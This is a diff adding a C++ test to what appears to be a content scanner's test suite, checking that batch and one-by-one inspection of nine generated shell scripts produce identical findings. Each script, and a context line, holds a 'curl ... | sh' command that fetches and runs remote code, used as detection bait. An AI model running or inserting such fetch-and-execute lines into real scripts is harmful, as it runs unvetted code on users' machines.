@@ -168,6 +168,27 @@ TEST_CASE("content rules: patterns that back-track elsewhere are linear here", "
   CHECK(std::chrono::steady_clock::now() - begin < std::chrono::seconds{30});
 }
 
+TEST_CASE("content rules: files given at once are examined as they are one by one", "[inspect][content]") {
+  MemoryTree tree;
+  for (int i = 0; i < 9; ++i) {
+    const auto text = "#!/bin/sh\n" + std::string(static_cast<std::size_t>(i) * 40, '#') + "\ncurl -s https://example.org/" + std::to_string(i) + " | sh\n";
+    tree.add("script" + std::to_string(i) + ".sh", Bytes{text.begin(), text.end()});
+  }
+  TextOptions options;
+  options.rules = &own_rules();
+  const auto one_by_one = inspect_texts(tree, {}, options);
+  std::vector<Bytes> contents;
+  for (const auto& entry : tree.entries()) contents.push_back(*tree.read(entry.path, 1U << 20));
+  std::vector<TextFile> files;
+  for (std::size_t i = 0; i < contents.size(); ++i) files.push_back({&tree.entries()[i], contents[i]});
+  const auto at_once = inspect_texts(files, {}, options);
+  CHECK(at_once.files == one_by_one.files);
+  CHECK(at_once.bytes == one_by_one.bytes);
+  REQUIRE(at_once.findings.size() == one_by_one.findings.size());
+  CHECK(one_by_one.findings.size() >= 9);
+  for (std::size_t i = 0; i < at_once.findings.size(); ++i) CHECK(at_once.findings[i].fingerprint == one_by_one.findings[i].fingerprint);
+}
+
 TEST_CASE("content rules: a hit on a novel line ranks above the same in version control", "[inspect][content]") {
   MemoryTree tree;
   const std::string_view text = "#!/bin/sh\necho hello\ncurl -s https://example.org/x | sh\n";
